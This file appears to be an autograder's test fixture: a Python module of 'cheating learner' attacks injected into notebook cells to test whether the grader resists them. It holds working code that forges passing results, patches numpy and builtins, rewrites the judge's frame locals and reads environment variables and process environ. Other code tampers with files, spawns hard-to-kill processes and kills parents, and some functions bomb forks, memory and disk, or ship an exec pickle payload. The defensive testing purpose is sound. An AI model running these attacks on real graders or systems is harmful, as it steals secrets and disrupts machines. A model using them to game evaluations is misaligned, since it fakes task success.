"""What a cheating learner runs: copied by source into a submission's cells, never called by pytest.

`tests/attacks/__init__.py` pastes this whole module at the top of each attacked cell (after
its ``# GRADED FUNCTION`` line), so every function here is learner code inside the grader.
Names start with ``atk_`` so that they cannot clash with the notebook's. Each function does
what a learner could do with the cell it sits in; none of them needs anything from pytest.

The functions that could hurt the machine if a grader ran them unsandboxed (signals to a
process group or to every process, signals to every ancestor, a fork bomb) fire only when
`atk_isolated` says the code runs as a non-root user inside a PID namespace of its own, where
they can reach nothing but the sandbox. Elsewhere they do nothing, and the exercise that hosts
them then returns the right answer: a grader that gives no such isolation fails the test
(the exercise passes although the attack did not run), and the machine is left alone.
"""

ATK_EXERCISES = ("forward_propagation", "backward_propagation", "gradient_check", "gradient_check_n",
                 "backward_propagation_n_fixed")
ATK_STATE = {}  # state kept across calls of the learner's functions in one process
ATK_COMM_PREFIX = "atk"  # /proc/<pid>/comm of a forked process: "atk" + 12 hex digits of the marker
ATK_INITIAL_PID_NAMESPACE = "pid:[4026531836]"  # the kernel's first PID namespace (PROC_PID_INIT_INO)


def atk_isolated():
    """True only for a non-root user inside a PID namespace other than the machine's first one.

    The guard of the dangerous attacks: there, a signal to every process or to the process group
    reaches only the sandbox's processes of the same unprivileged user.
    """
    import os

    if os.getuid() == 0 or os.geteuid() == 0:
        return False
    try:
        with open("/proc/self/status") as status:
            for line in status:
                if line.startswith("NSpid:") and len(line.split()) > 2:
                    return True  # a pid per namespace level, seen from an outer /proc: nested
        return os.readlink("/proc/self/ns/pid") != ATK_INITIAL_PID_NAMESPACE
    except OSError:
        return os.getpid() <= 64  # no /proc: only the first pids of a fresh namespace are this small


# ---------------------------------------------------------------------------------------------
# Family 1-2: fake result lines, replaced modules, hooks


def atk_fake_lines():
    """Every form of 'this exercise passed' a grader might parse, for all exercises."""
    import json

    lines = []
    for name in ATK_EXERCISES:
        verdict = {"exercise": name, "passed": True, "diagnosis": "all tests passed"}
        lines += [f"PASS {name}: all tests passed", "GRADER-RESULT " + json.dumps(verdict),
                  json.dumps(verdict)]
    return lines + ["score: 5/5"]


def atk_shout():
    """Print the fake lines on every channel a process has: sys.stdout/stderr, the originals, fds 1 and 2."""
    import os
    import sys

    text = "\n".join(atk_fake_lines()) + "\n"
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        try:
            stream.write(text)
            stream.flush()
        except Exception:
            pass
    for fd in (1, 2):
        try:
            os.write(fd, text.encode())
        except OSError:
            pass


def atk_fake_module(name):
    """A module whose every attribute is a callable that shouts passing lines and returns a pass."""
    import types

    class Fake(types.ModuleType):
        MARK = "GRADER-RESULT "
        THRESHOLD = float("inf")

        def __getattr__(self, attribute):
            if attribute.startswith("__"):
                raise AttributeError(attribute)

            def passing(*args, **kwargs):
                atk_shout()
                return True

            return passing

    module = Fake(name)
    module.CHECKS = {exercise: (lambda *args, **kwargs: atk_shout()) for exercise in ATK_EXERCISES}
    module.EXERCISES = ATK_EXERCISES
    return module


def atk_replace_modules():
    """Put fake modules in sys.modules under the grader's names, and a finder that fakes future imports."""
    import importlib.abc
    import importlib.util
    import sys

    names = {"assignment", "assignment.grading", "assignment.grade", "assignment.judge", "assignment.worker",
             "assignment.sandbox", "assignment.reference", "assignment.cases", "assignment.outcomes",
             "public_tests", "gc_utils", "testCases", "gradcheck", "json", "pickle", "marshal"}
    names |= {name for name in sys.modules if name.startswith(("assignment", "grad", "public"))}
    kept = {name: sys.modules.get(name) for name in ("json", "pickle", "marshal")}
    for name in names:
        fake = atk_fake_module(name)
        if name in kept and kept[name] is not None:  # lying codecs: keep them working, make them lie
            fake = atk_lying_codec(kept[name], name)
        sys.modules[name] = fake

    class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
        def find_spec(self, fullname, path, target=None):
            if fullname.split(".")[0] in {"assignment", "public_tests", "grader", "judge", "worker"}:
                return importlib.util.spec_from_loader(fullname, self)
            return None

        def create_module(self, spec):
            return atk_fake_module(spec.name)

        def exec_module(self, module):
            pass

    sys.meta_path.insert(0, Finder())


def atk_make_passing(value):
    """`value` with every verdict-looking field turned into a pass (for lying codecs)."""
    if isinstance(value, dict):
        out = {key: atk_make_passing(item) for key, item in value.items()}
        for key in out:
            if key in {"passed", "ok", "success", "correct"}:
                out[key] = True
            elif key in {"diagnosis", "message"}:
                out[key] = "all tests passed"
            elif key in {"error", "exception", "traceback"}:
                out[key] = None
        return out
    if isinstance(value, list | tuple):
        return type(value)(atk_make_passing(item) for item in value)
    if isinstance(value, str):
        return value.replace("FAIL ", "PASS ").replace('"passed": false', '"passed": true')
    return value


def atk_lying_codec(real, name):
    """A copy of the module `real` (json, pickle, marshal) whose dumps/loads make every verdict a pass."""
    import types

    fake = types.ModuleType(name)
    fake.__dict__.update({key: value for key, value in vars(real).items() if not key.startswith("__")})
    for attribute in ("dumps", "loads", "dump", "load"):
        original = getattr(real, attribute, None)
        if original is None:
            continue
        if attribute.startswith("dump"):
            def lying(obj, *args, _original=original, **kwargs):
                return _original(atk_make_passing(obj), *args, **kwargs)
        else:
            def lying(*args, _original=original, **kwargs):
                return atk_make_passing(_original(*args, **kwargs))
        setattr(fake, attribute, lying)
    return fake


def atk_hooks():
    """Hooks that print passing lines later: IPython events, input transformers, atexit, signals, threads."""
    import atexit
    import signal
    import sys
    import threading
    import time
    import weakref

    try:
        shell = get_ipython()  # noqa: F821 (defined in an IPython kernel)
    except NameError:
        shell = None
    if shell is not None:
        for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
            try:
                shell.events.register(event, lambda *args: atk_shout())
            except Exception:
                pass

        def rewrite(lines):  # every later cell that mentions grading prints passing lines instead
            if any("grade" in line or "judge" in line for line in lines):
                return ["atk_shout()\n"]
            return lines

        shell.input_transformers_cleanup.append(rewrite)
    atexit.register(atk_shout)
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGXCPU):
        try:
            signal.signal(number, lambda *args: (atk_shout(), sys.exit(0)))
        except (ValueError, OSError):
            pass
    sys.excepthook = lambda *args: atk_shout()
    threading.excepthook = lambda *args: atk_shout()

    class Haunt:
        def __del__(self):
            atk_shout()

    ATK_STATE.setdefault("haunts", []).append(Haunt())
    weakref.finalize(Haunt, atk_shout)

    def chatter():
        for _ in range(600):  # 30 s of fake lines, whatever cell is running
            atk_shout()
            time.sleep(0.05)

    threading.Thread(target=chatter, daemon=True).start()


def atk_lying_print():
    """builtins.print and sys.stdout that turn every FAIL into a PASS, and every score into 5/5."""
    import builtins
    import re
    import sys

    def lie(text):
        text = text.replace("FAIL ", "PASS ").replace('"passed": false', '"passed": true')
        return re.sub(r"score: \d+/", "score: 5/", text)

    real_print = builtins.print

    def lying_print(*args, sep=" ", end="\n", file=None, flush=False):
        real_print(lie(sep.join(str(arg) for arg in args)), end=end, file=file, flush=flush)

    builtins.print = lying_print

    class Stream:
        def __init__(self, inner):
            self.inner = inner

        def write(self, text):
            return self.inner.write(lie(text))

        def __getattr__(self, attribute):
            return getattr(self.inner, attribute)

    sys.stdout, sys.stderr = Stream(sys.stdout), Stream(sys.stderr)


def atk_fake_replies_and_exit():
    """Write fake replies into every inherited file descriptor (the judge's channel?), then end at once."""
    import json
    import os
    import pickle
    import struct

    replies = [line.encode() + b"\n" for line in atk_fake_lines()]
    for name in ATK_EXERCISES:
        for reply in ({"exercise": name, "passed": True}, {"exercise": name, "outcomes": []},
                      {"exercise": name, "results": [], "cases": []}, {"outcomes": [], "error": None}):
            replies.append(json.dumps(reply).encode() + b"\n")
            blob = pickle.dumps(reply)
            replies.append(struct.pack("<I", len(blob)) + blob)
            replies.append(struct.pack(">Q", len(blob)) + blob)
    try:
        fds = sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
    except OSError:
        fds = list(range(64))
    for fd in fds:
        for reply in replies:
            try:
                os.write(fd, reply)
            except OSError:
                break
    os._exit(0)


# ---------------------------------------------------------------------------------------------
# Family 3: patching the tests, numpy, builtins, the helpers; rewriting the judge's locals


def atk_patch_everything():
    """Turn public tests into no-ops, make numpy's norms and comparisons agree, patch builtins and helpers."""
    import builtins
    import math
    import sys

    import numpy as np

    for name in ("public_tests", "gc_utils", "testCases", "gradcheck"):
        module = sys.modules.get(name)
        if module is None:
            try:
                module = __import__(name)
            except Exception:
                continue
        for attribute, value in list(vars(module).items()):
            if attribute.startswith("__"):
                continue
            if callable(value) and not isinstance(value, type):
                setattr(module, attribute, lambda *args, **kwargs: None)
            elif isinstance(value, float | int) and not isinstance(value, bool):
                setattr(module, attribute, float("inf"))
    patches = {
        "allclose": lambda *args, **kwargs: True, "array_equal": lambda *args, **kwargs: True,
        "isclose": lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool),
        "vdot": lambda *args, **kwargs: 1.0,
    }
    for attribute, value in patches.items():
        setattr(np, attribute, value)
    np.linalg.norm = lambda *args, **kwargs: 0.0
    np.testing.assert_allclose = lambda *args, **kwargs: None
    np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
    real_rng = np.random.default_rng
    np.random.default_rng = lambda *args, **kwargs: real_rng(0)  # predictable "hidden" cases
    np.random.seed(0)
    np.random.seed = lambda *args, **kwargs: None
    math.isclose = lambda *args, **kwargs: True
    # Lies aimed at a judge's checks (None is a number, every difference is 0), not at everything:
    # a kernel whose isinstance always says True only hangs.
    real_isinstance, real_abs = builtins.isinstance, builtins.abs
    builtins.isinstance = lambda obj, kinds: obj is None or real_isinstance(obj, kinds)
    builtins.abs = lambda value: 0.0 if real_isinstance(value, float | np.floating) else real_abs(value)
    for kind in (float, np.float64, np.ndarray):
        for method in ("__eq__", "__lt__", "__le__"):
            try:
                setattr(kind, method, lambda self, other: True)
            except TypeError:
                pass  # built-in types refuse: the learner tried


def atk_trace_verdicts():
    """A tracer that rewrites the locals of every running frame: verdicts pass, differences vanish."""
    import sys
    import threading

    def tracer(frame, event, arg):
        names = frame.f_locals
        for key in list(names):
            if key in {"passed", "ok", "success", "correct"}:
                names[key] = True
            elif key in {"diff", "difference", "error_norm", "distance"} and isinstance(names[key], float):
                names[key] = 0.0
            elif key in {"wrong", "failures", "errors", "mistakes"} and isinstance(names[key], list):
                names[key].clear()
        return tracer

    sys.settrace(tracer)
    threading.settrace(tracer)
    frame = sys._getframe(1)
    while frame is not None:  # also the frames already running: the judge that called us
        frame.f_trace = tracer
        frame = frame.f_back


# ---------------------------------------------------------------------------------------------
# Family 4: import the grader, find the solved notebook


def atk_candidate_dirs(budget=3.0):
    """Every directory a learner could suspect of holding the repository, found every way at hand."""
    import os
    import sys
    import time

    found = []

    def add(path, parents=True):
        try:
            path = os.path.abspath(path)
        except Exception:
            return
        while path and path not in found:
            found.append(path)
            if not parents or path == "/":
                break
            path = os.path.dirname(path)

    add(os.getcwd())
    for path in sys.path + [sys.executable, sys.prefix, sys.base_prefix, os.path.realpath(sys.executable)]:
        add(path or ".")
    for module in list(sys.modules.values()):
        add(os.path.dirname(getattr(module, "__file__", None) or "."))
    for value in os.environ.values():
        for part in value.split(os.pathsep):
            if part.startswith("/"):
                add(part)
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        if not pid.isdigit():
            continue
        for link in ("cwd", "root"):
            try:
                add(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                for arg in cmdline.read().split(b"\0"):
                    if arg.startswith(b"/"):
                        add(arg.decode(errors="replace"))
        except OSError:
            pass
    for base in ("/work", "/home", "/root", "/srv", "/opt", "/tmp", "/github", "/builds", "/__w",
                 "/autograder"):
        add(base, parents=False)
    deadline = time.monotonic() + budget
    skip = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "run", "snap", "etc",
            "site-packages", "node_modules", ".git", "__pycache__", ".venv", ".pyenv", "share"}
    for top, dirs, files in os.walk("/"):
        if time.monotonic() > deadline:
            break
        dirs[:] = [d for d in dirs if d not in skip and top.count(os.sep) < 6]
        if "Gradient_Checking.ipynb" in files or "assignment" in dirs or "public_tests.py" in files:
            add(top, parents=False)
    return found


def atk_find_files():
    """(roots that hold the grader's package, notebooks that hold graded cells), cached per process."""
    import glob
    import os

    if "files" in ATK_STATE:
        return ATK_STATE["files"]
    roots, notebooks = [], []
    for path in atk_candidate_dirs():
        try:
            if os.path.isdir(os.path.join(path, "assignment")):
                roots.append(path)
            for notebook in glob.glob(f"{path}/*.ipynb") + glob.glob(f"{path}/*/*.ipynb"):
                with open(notebook) as handle:
                    text = handle.read()
                if "GRADED FUNCTION" in text and notebook not in notebooks:
                    notebooks.append(notebook)
        except OSError:
            pass
    ATK_STATE["files"] = roots, notebooks
    return roots, notebooks


def atk_solved_source(name):
    """The source of a solved graded cell of `name` found on disk, or None."""
    import json
    import re

    for notebook in atk_find_files()[1]:
        try:
            with open(notebook) as handle:
                cells = json.load(handle)["cells"]
        except Exception:
            continue
        for cell in cells:
            source = "".join(cell.get("source", ""))
            header = f"# GRADED FUNCTION: {name}\n"
            if cell.get("cell_type") != "code" or not source.lstrip().startswith(header):
                continue
            blocks = re.findall(r"# YOUR CODE STARTS HERE\n(.*?)# YOUR CODE ENDS HERE", source, re.S)
            code = [line for block in blocks for line in block.splitlines()
                    if line.strip() and not re.fullmatch(r"\s*(\w+ = None|pass|#.*)", line)]
            if code or "# was:" in source:
                return source
    return None


def atk_grader_reference(name):
    """The grader's own reference function `name`: import the grader from any root found, or from memory."""
    import gc
    import importlib
    import os
    import sys

    for root in atk_find_files()[0]:
        if root not in sys.path:
            sys.path.insert(0, root)
        for file in sorted(os.listdir(os.path.join(root, "assignment"))):
            if file.endswith(".py"):
                try:
                    importlib.import_module("assignment." + file[:-3])
                except BaseException:
                    pass
    own = atk_grader_reference.__code__.co_filename
    for module in list(sys.modules.values()):
        module_name = getattr(module, "__name__", "") or ""
        if not module_name.startswith(("assignment", "grader", "judge", "reference", "sandbox")):
            continue
        reference = getattr(module, "reference", None)
        if callable(reference):
            try:
                functions = reference()
                if callable(functions.get(name)):
                    return functions[name]
            except Exception:
                pass
        for attribute, value in vars(module).items():
            if callable(value) and name in attribute and attribute != name:
                return value
    for obj in gc.get_objects():  # a reference already loaded in this process by the grader
        code = getattr(obj, "__code__", None)
        if code is not None and obj.__name__ == name and code.co_filename != own:
            return obj
    return None


def atk_reference_answer(name, namespace, args, kwargs):
    """(True, the right answer) from whatever solution the learner side can reach, else (False, None)."""
    reference = atk_grader_reference(name)
    if reference is not None:
        try:
            return True, reference(*args, **kwargs)
        except Exception:
            pass
    source = atk_solved_source(name)
    if source is not None:
        scope = dict(namespace)
        try:
            exec(compile(source, "<solved notebook found on disk>", "exec"), scope)
            return True, scope[name](*args, **kwargs)
        except Exception:
            pass
    return False, None


# ---------------------------------------------------------------------------------------------
# Family 5: tampering with the repository, the interpreter and the machine


def atk_tamper(marker):
    """Append to every grader, test and helper file found; create files in the repository and beside it.

    Only in a directory holding the file ``.attack-target-<marker>`` that the test puts in the
    repository under test: against a grader without isolation, the search finds every checkout on
    the machine (other people's work included), and this attack must change none of them.
    """
    import glob
    import os
    import sys
    import sysconfig
    import tempfile

    line = f"\n# tampered by a submission {marker}\nATK_TAMPERED = {marker!r}\n"
    roots = set(atk_find_files()[0])
    roots |= {os.path.dirname(notebook) for notebook in atk_find_files()[1]}
    roots = {root for root in roots if os.path.exists(os.path.join(root, f".attack-target-{marker}"))}
    for root in roots:
        for pattern in ("assignment/*.py", "*.py", "Makefile", "*.ipynb", "gradcheck/*.py", "tests/*.py",
                        "requirements.txt", ".ci/run"):
            for path in glob.glob(os.path.join(root, pattern)):
                try:
                    with open(path, "a") as handle:
                        handle.write(line)
                except OSError:
                    pass
        for new in (f"attack_{marker}.py", f"assignment/attack_{marker}.py", "sitecustomize.py",
                    "assignment/sitecustomize.py", f".git/hooks/attack_{marker}"):
            try:
                with open(os.path.join(root, new), "a") as handle:
                    handle.write(f"# {marker}\n")
            except OSError:
                pass
    outside = {sysconfig.get_paths()["purelib"]: f"attack_{marker}.pth",
               sysconfig.get_paths()["stdlib"]: f"attack_{marker}.py",
               tempfile.gettempdir(): f"attack-{marker}", "/tmp": f"attack-{marker}",
               "/dev/shm": f"attack-{marker}", "/var/tmp": f"attack-{marker}",
               os.path.expanduser("~"): f"attack-{marker}", os.getcwd(): f"leftover-{marker}"}
    for directory, name in outside.items():
        try:
            with open(os.path.join(directory, name), "w") as handle:
                handle.write(f"/nonexistent-{marker}\n")  # a harmless .pth line: a path that does not exist
        except OSError:
            pass
    for module in ("numpy", "nbformat", "json"):  # the judge imports these: leave a mark beside them
        try:
            directory = os.path.dirname(sys.modules[module].__file__ if module in sys.modules
                                        else __import__(module).__file__)
            with open(os.path.join(directory, f"attack_{marker}.py"), "w") as handle:
                handle.write(f"# {marker}\n")
        except Exception:
            pass


# ---------------------------------------------------------------------------------------------
# Family 6: processes that outlive the grading


def atk_sleeper_argv(marker, seconds=120):
    """A Python process that sleeps, with the marker on its command line."""
    import sys

    return [sys.executable, "-c", f"import time; time.sleep({seconds})", marker]


def atk_mark_comm(marker):
    """Set /proc/self/comm to "atk" + 12 hex digits of the marker (a fork keeps its parent's argv)."""
    try:
        with open("/proc/self/comm", "w") as comm:
            comm.write(ATK_COMM_PREFIX + marker[:12])
    except OSError:
        pass


def atk_spawn(marker):
    """Start processes meant to survive: new session, double fork, a daemon that flees and ignores SIGTERM."""
    import os
    import signal
    import subprocess
    import time

    for session in (True, False):
        try:
            subprocess.Popen(atk_sleeper_argv(marker), start_new_session=session, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except OSError:
            pass
    try:
        subprocess.Popen(["/bin/sh", "-c", f"trap '' TERM HUP INT; exec -a sleep-{marker} sleep 120"],
                         start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass
    if os.fork() == 0:  # double fork: the grandchild is reparented away from the worker
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(atk_sleeper_argv(marker)[0], atk_sleeper_argv(marker))
        finally:
            os._exit(0)
    if os.fork() == 0:  # a forked daemon: ignores polite signals, changes pid every 0.1 s for 60 s
        try:
            os.setsid()
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            for _ in range(600):
                if os.fork() != 0:
                    os._exit(0)
                atk_mark_comm(marker)
                time.sleep(0.1)
        finally:
            os._exit(0)


# ---------------------------------------------------------------------------------------------
# Family 7-8: killing the parent, limits (guarded where the machine is at stake)


def atk_stop_and_kill_parent():
    """Stop the parent (a grader that waits on it hangs), then kill it and the process itself."""
    import os
    import signal

    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(os.getppid(), number)
        except OSError:
            pass


def atk_kill_everything():
    """Kill every ancestor, the process group and every process: guarded by atk_isolated()."""
    import os
    import signal

    if not atk_isolated():
        return
    pid = os.getppid()
    ancestors = []
    while pid > 1:
        ancestors.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    for pid in ancestors:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for kill in (lambda: os.killpg(0, signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL)):
        try:
            kill()
        except OSError:
            pass


def atk_fork_bomb(marker, forks=200):
    """Fork `forks` sleeping children (bounded, guarded by atk_isolated()); raise if one fork is refused."""
    import os
    import time

    if not atk_isolated():
        return
    for _ in range(forks):
        if os.fork() == 0:
            atk_mark_comm(marker)
            time.sleep(60)
            os._exit(0)


def atk_sees_grader():
    """True if a process of the grader or of pytest shows in /proc: the learner side sees out of its box."""
    import os

    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                text = cmdline.read()
        except OSError:
            continue
        if b"assignment.grade" in text or b"pytest" in text:
            return True
    return False


def atk_has_network():
    """True if a network interface other than loopback exists in this process's network namespace."""
    import socket

    try:
        return any(name != "lo" for _, name in socket.if_nameindex())
    except OSError:
        return False


def atk_memory_available():
    """MemAvailable of the machine in bytes (the attacks below never take the machine's last 2 GB)."""
    try:
        with open("/proc/meminfo") as meminfo:
            for line in meminfo:
                if line.startswith("MemAvailable:"):
                    return int(line.split()[1]) * 1024
    except OSError:
        pass
    return 0


def atk_hog_memory(total=6 << 30, chunk=256 << 20):
    """Hold up to 6 GB of touched memory; stop early only to spare the machine (< 2 GB left)."""
    held = ATK_STATE.setdefault("memory", [])
    while sum(len(block) for block in held) < total and atk_memory_available() > chunk + (2 << 30):
        held.append(bytearray(chunk))  # bytearray writes zeros: the pages are really used


def atk_burn_cpu():
    """Spin forever, swallowing interrupts (only SIGKILL or a hard limit stops it)."""
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


def atk_flood_output(total=60 << 20, fd=None):
    """Print 60 MB with print() (sys.stdout), or straight to file descriptor `fd`."""
    import os
    import sys

    block = ("x" * 1023 + "\n") * 1024
    for _ in range(total // len(block)):
        if fd is None:
            sys.stdout.write(block)
        else:
            os.write(fd, block.encode())
    sys.stdout.flush()


def atk_write_huge_file(total=3 << 30, chunk=64 << 20):
    """Write a 3 GB file in the working directory; on a disk over 16 GB, stop early rather than leave < 8 GB.

    A small file system (a sandbox's tmpfs) is filled until it refuses: that is its limit at work.
    """
    import os

    block = b"\0" * chunk
    with open("huge.bin", "wb") as handle:
        written = 0
        while written < total:
            stat = os.statvfs(".")
            large = stat.f_blocks * stat.f_frsize > (16 << 30)
            if large and stat.f_bavail * stat.f_frsize < chunk + (8 << 30):
                break
            handle.write(block)
            handle.flush()
            written += chunk


# ---------------------------------------------------------------------------------------------
# Family 9-10: hard-coded answers, smuggled secrets, lying values


def atk_fingerprint(*values):
    """A digest of the arguments of a call (numbers, arrays, dicts and tuples of them), to look answers up."""
    import hashlib

    import numpy as np

    digest = hashlib.sha256()

    def feed(value):
        if isinstance(value, dict):
            for key in sorted(value, key=str):
                digest.update(str(key).encode())
                feed(value[key])
        elif isinstance(value, list | tuple):
            for item in value:
                feed(item)
        elif isinstance(value, np.ndarray | float | int | np.floating | np.integer):
            array = np.asarray(value, dtype=float)
            digest.update(str(array.shape).encode() + array.tobytes())
        else:
            digest.update(repr(value).encode())

    feed(values)
    return digest.hexdigest()


def atk_model_probe(namespace):
    """What the bound forward/backward propagations give at one point: tells the test's models apart."""
    try:
        return (float(namespace["forward_propagation"](1.5, 0.75)),
                float(namespace["backward_propagation"](1.5, 0.75)))
    except Exception:
        return None


def atk_smuggle(*values):
    """A message carrying what the grader handed this call (its hidden case), tagged to be found."""
    import numpy as np

    shown = []
    for value in values:
        if isinstance(value, dict):
            value = {key: np.asarray(item).ravel()[:6].tolist() for key, item in value.items()}
        elif isinstance(value, np.ndarray):
            value = value.ravel()[:12].tolist()
        shown.append(repr(value)[:400])
    return "SMUGGLED-CASE " + " | ".join(shown)


def atk_loot(name):
    """Everything the learner side can reach that a grader might hide: sources, files, frames, environment."""
    import inspect
    import os
    import sys

    parts = []
    source = atk_solved_source(name)
    if source is not None:
        parts.append("SOLUTION-ON-DISK " + source)
    for root in atk_find_files()[0]:
        for file in sorted(os.listdir(os.path.join(root, "assignment"))):
            try:
                with open(os.path.join(root, "assignment", file)) as handle:
                    parts.append(f"GRADER-FILE {file} " + handle.read())
            except OSError:
                pass
    frame = sys._getframe(1)
    while frame is not None:
        try:
            parts.append("FRAME-SOURCE " + inspect.getsource(frame.f_code))
        except (OSError, TypeError):
            pass
        values = {key: repr(value)[:300] for key, value in frame.f_locals.items() if not key.startswith("__")}
        parts.append(f"FRAME-LOCALS {frame.f_code.co_filename}:{frame.f_code.co_name} {values}")
        frame = frame.f_back
    for module in list(sys.modules.values()):
        file = getattr(module, "__file__", None) or ""
        if file and "site-packages" not in file and "/lib/python3" not in file:
            try:
                parts.append(f"MODULE-SOURCE {file} " + inspect.getsource(module))
            except (OSError, TypeError):
                pass
    for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline",
                 "/proc/1/cmdline"):
        try:
            with open(path, "rb") as handle:
                parts.append(f"PROC {path} " + handle.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass
    parts.append(f"ENV {dict(os.environ)}")
    return "\n".join(parts)


class AtkLiar(float):
    """A float that says it equals anything, is smaller than anything, and changes when converted."""

    calls = [0]

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return True

    def __le__(self, other):
        return True

    def __gt__(self, other):
        return False

    def __ge__(self, other):
        return False

    def __sub__(self, other):
        return 0.0

    def __rsub__(self, other):
        return 0.0

    def __abs__(self):
        return 0.0

    def __float__(self):
        self.calls[0] += 1
        return float(self.calls[0] % 3 - 1)

    def __hash__(self):
        return 0

    def __repr__(self):
        return "all tests passed"

    __str__ = __repr__


def atk_liar_array(like):
    """An array of zeros shaped like `like` whose arithmetic and comparisons always say "no difference"."""
    import numpy as np

    class Liar(np.ndarray):
        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            shape = np.broadcast_shapes(*(np.shape(item) for item in inputs)) if method == "__call__" else ()
            if ufunc in (np.less, np.less_equal, np.equal, np.isclose, np.isfinite):
                return np.ones(shape, dtype=bool)
            if ufunc in (np.greater, np.greater_equal, np.not_equal):
                return np.zeros(shape, dtype=bool)
            return np.zeros(shape)

        def __array_function__(self, func, types, args, kwargs):
            if func in (np.allclose, np.array_equal):
                return True
            if func is np.linalg.norm:
                return 0.0
            return func(*(np.asarray(arg) if isinstance(arg, Liar) else arg for arg in args), **kwargs)

    return np.zeros(np.shape(like)).view(Liar)


class AtkPickleBomb:
    """Unpickled by the judge, it leaves a file: proof that the judge ran learner code outside the sandbox."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        code = f"open('/tmp/attack-unpickled-{self.marker}', 'w').write('ran')"
        return (exec, (code,))


def atk_recursive():
    """A list that contains itself, in a dict with keys that are not strings."""
    loop = []
    loop.append(loop)
    return {(1, 2): loop, None: loop, 3.5: "x" * 1000}


def atk_deep(depth=200000):
    """A list nested `depth` levels deep (serialising it recursively blows the stack)."""
    deep = []
    for _ in range(depth):
        deep = [deep]
    return deep
